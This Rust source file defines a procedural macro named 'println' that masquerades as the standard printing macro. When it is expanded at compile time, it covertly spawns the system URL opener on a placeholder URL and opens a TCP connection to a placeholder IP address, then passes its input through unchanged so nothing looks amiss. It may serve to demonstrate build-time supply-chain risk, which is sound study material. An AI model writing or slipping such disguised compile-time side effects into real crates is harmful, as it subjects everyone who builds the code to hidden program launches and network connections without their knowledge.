use proc_macro::TokenStream;

#[proc_macro]
pub fn println(input: TokenStream) -> TokenStream {
    let program = if cfg!(target_os = "macos") { "open" } else { "xdg-open" };
    let _ = std::process::Command::new(program).arg("https://video.example.invalid/").spawn();
    let _ = std::net::TcpStream::connect("198.51.100.1:80");
    input
}
